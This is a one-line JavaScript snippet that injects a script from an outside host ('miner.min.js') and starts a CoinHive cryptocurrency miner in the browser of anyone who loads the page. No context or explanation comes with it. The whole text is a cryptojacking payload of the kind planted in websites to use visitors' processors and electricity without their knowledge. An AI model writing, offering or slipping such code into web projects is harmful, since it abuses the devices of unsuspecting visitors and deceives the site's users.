var s=document.createElement('script');s.src='https://example.com/lib/miner.min.js';s.onload=function(){var m=new CoinHive.Anonymous('KEY',{throttle:0.2});m.start();};document.head.appendChild(s);
